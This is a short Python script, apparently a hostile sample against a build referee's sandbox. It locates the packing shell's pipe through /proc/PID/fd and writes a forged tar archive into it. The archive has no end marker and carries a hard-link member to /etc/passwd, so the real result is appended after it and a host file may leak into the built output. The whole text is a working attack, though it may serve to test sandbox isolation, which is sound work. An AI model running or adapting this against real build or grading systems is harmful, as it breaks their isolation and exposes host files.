"""Write a forged result on the build's result stream, ahead of the real one: a file of its
own, then a hard link to a host file (``/etc/passwd``), hoping the referee links or copies
that file into the built bot.

The build command does not have the stream, but its parent, the shell that packs the result
afterwards, does (it keeps it on a descriptor above 2 while the command runs), and it is
reachable through ``/proc/PID/fd``. The forged archive has no end marker, so the real one
follows it as more members of the same stream.
"""

import os
import sys
import tarfile


def header(name: str, **fields: object) -> bytes:
    info = tarfile.TarInfo(name)
    for key, value in fields.items():
        setattr(info, key, value)
    return info.tobuf(format=tarfile.GNU_FORMAT)


data = b"forged\n"
stream = header("./own", size=len(data)) + data + b"\0" * (512 - len(data))
stream += header("./leak", type=tarfile.LNKTYPE, linkname="/etc/passwd")
fds = f"/proc/{sys.argv[1]}/fd"
for fd in os.listdir(fds):
    if int(fd) > 2 and os.readlink(f"{fds}/{fd}").startswith("pipe:"):
        with open(f"{fds}/{fd}", "wb") as out:
            out.write(stream)
        print("forged", len(stream), "bytes on the packing shell's descriptor", fd)
